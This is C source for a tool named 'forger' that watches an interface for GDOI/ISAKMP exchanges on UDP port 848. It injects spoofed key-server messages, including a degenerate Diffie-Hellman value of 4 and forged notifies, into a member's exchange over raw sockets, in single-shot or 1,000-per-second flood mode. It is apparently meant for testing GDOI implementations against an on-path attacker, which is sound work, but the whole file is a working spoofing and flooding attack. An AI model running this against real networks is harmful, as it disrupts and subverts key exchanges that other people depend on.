/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * forger INTERFACE SERVER MEMBER MODE: somebody on the path between a member and its key server, who sees what passes
 * on INTERFACE, drops nothing, and speaks to the member in the server's name.  MODE "once": after each message of the
 * member one well-formed message 2, 4 and 6 and clear notifies 14 and 24, before the server can answer.  MODE "flood":
 * 1,000 of them a second, each of them new.  Says how many it has sent when it is told to end.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define GDOI 848
#define HEADER 28
#define KE_LEN 256 /* group 14 */
#define KINDS 5

static volatile sig_atomic_t ends;
static uint32_t server, member;
static int out;
static uint8_t first[2048], cookie_r[8];
static size_t first_len;
static unsigned long sent;

static void on_signal(int number)
{
	(void)number;
	ends = 1;
}

static void die(const char *what)
{
	fprintf(stderr, "forger: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static void draw(void *ret, size_t len)
{
	if (getrandom(ret, len, 0) != (ssize_t)len)
		die("getrandom");
}

/* LEN octets of ISAKMP, from the server's port 848 to the member's. */
static void inject(const uint8_t *message, size_t len)
{
	uint8_t packet[sizeof(struct iphdr) + sizeof(struct udphdr) + 2048] = { 0 };
	struct iphdr ip = {
		.version = 4, .ihl = 5, .ttl = 63, .protocol = IPPROTO_UDP, .saddr = server, .daddr = member
	};
	struct udphdr udp = { .source = htons(GDOI), .dest = htons(GDOI), .len = htons((uint16_t)(sizeof(udp) + len)) };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = member };
	size_t all = sizeof(ip) + sizeof(udp) + len;

	ip.tot_len = htons((uint16_t)all);
	memcpy(packet, &ip, sizeof(ip));
	memcpy(packet + sizeof(ip), &udp, sizeof(udp)); /* without a checksum, which is none's business */
	memcpy(packet + sizeof(ip) + sizeof(udp), message, len);
	if (sendto(out, packet, all, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		die("sendto");
	sent++;
}

static size_t begin(uint8_t *m, const uint8_t *responder, uint8_t next, uint8_t exchange, uint8_t flags)
{
	memset(m, 0, HEADER);
	memcpy(m, first, 8);
	memcpy(m + 8, responder, 8);
	m[16] = next;
	m[17] = 0x10;
	m[18] = exchange;
	m[19] = flags;
	return HEADER;
}

static size_t add(uint8_t *m, size_t at, uint8_t next, const void *body, size_t len)
{
	m[at] = next;
	m[at + 1] = 0;
	m[at + 2] = (uint8_t)((len + 4) >> 8);
	m[at + 3] = (uint8_t)(len + 4);
	memcpy(m + at + 4, body, len);
	return at + 4 + len;
}

static void finish(uint8_t *m, size_t len)
{
	m[26] = (uint8_t)(len >> 8);
	m[27] = (uint8_t)len;
	inject(m, len);
}

/* The member's offer of one transform, echoed: it is chosen. */
static void message_2(void)
{
	uint8_t m[2048], own[8];

	draw(own, sizeof(own));
	memcpy(m, first, first_len);
	memcpy(m + 8, own, sizeof(own));
	finish(m, first_len);
}

/* 4 is a good public value: it is 2 to the 2. */
static void message_4(void)
{
	uint8_t m[2048], ke[KE_LEN] = { [KE_LEN - 1] = 4 }, nonce[32];
	size_t len = begin(m, cookie_r, 4, 2, 0);

	draw(nonce, sizeof(nonce));
	len = add(m, len, 10, ke, sizeof(ke));
	len = add(m, len, 0, nonce, sizeof(nonce));
	finish(m, len);
}

static void message_6(void)
{
	uint8_t m[2048];
	size_t len = begin(m, cookie_r, 5, 2, 1);

	draw(m + len, 64);
	finish(m, len + 64);
}

static void notify(uint8_t type)
{
	uint8_t m[2048], body[] = { 0, 0, 0, 1, 1, 0, 0, type };
	size_t len = begin(m, cookie_r, 11, 5, 0);

	finish(m, add(m, len, 0, body, sizeof(body)));
}

static void forge(unsigned kind)
{
	static const uint8_t unknown[8];
	int known = memcmp(cookie_r, unknown, sizeof(unknown)) != 0;

	if (first_len == 0)
		return;
	switch (kind) {
	case 0:
		message_2();
		break;
	case 1:
		if (known)
			message_4();
		break;
	case 2:
		if (known)
			message_6();
		break;
	case 3:
		notify(14);
		break;
	default:
		notify(24);
		break;
	}
}

/* An IP packet that passed: says whether the member has spoken. */
static int learn(const uint8_t *p, size_t len)
{
	static const uint8_t none[8];
	size_t at = (size_t)(p[0] & 15) * 4 + sizeof(struct udphdr);
	const uint8_t *m = p + at;
	uint32_t from, to;

	if (len < at + HEADER || p[9] != IPPROTO_UDP)
		return 0;
	memcpy(&from, p + 12, 4);
	memcpy(&to, p + 16, 4);
	if (from != member || to != server || (m[18] != 2 && m[18] != 32))
		return 0;
	if (m[18] == 2 && memcmp(m + 8, none, 8) == 0 && len - at <= sizeof(first)) {
		first_len = len - at;
		memcpy(first, m, first_len);
		memset(cookie_r, 0, sizeof(cookie_r));
	} else if (m[18] == 2) { /* whatever the member answers: among them the server's own */
		memcpy(cookie_r, m + 8, 8);
	}
	return 1;
}

static int capture_on(const char *name)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex(name) };
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));

	if (fd < 0 || ll.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&ll, sizeof(ll)) < 0)
		die(name);
	return fd;
}

int main(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = on_signal };
	struct pollfd in = { .events = POLLIN };
	uint64_t next = now_ms();
	unsigned turn = 0;
	int flood;

	if (argc != 5 || inet_pton(AF_INET, argv[2], &server) != 1 || inet_pton(AF_INET, argv[3], &member) != 1) {
		fprintf(stderr, "usage: forger INTERFACE SERVER MEMBER once|flood\n");
		return 2;
	}
	flood = strcmp(argv[4], "flood") == 0;
	sigaction(SIGTERM, &action, NULL);
	sigaction(SIGINT, &action, NULL);
	in.fd = capture_on(argv[1]);
	out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (out < 0)
		die("socket");
	while (!ends) {
		uint8_t packet[4096];
		ssize_t n = poll(&in, 1, flood ? 1 : 1000) > 0 ? recv(in.fd, packet, sizeof(packet), MSG_DONTWAIT) : 0;

		if (n > 0 && learn(packet, (size_t)n) && !flood)
			for (unsigned kind = 0; kind < KINDS; kind++)
				forge(kind);
		for (; flood && next <= now_ms(); next++)
			forge(turn++ % KINDS);
	}
	printf("%lu forged messages\n", sent);
	return 0;
}
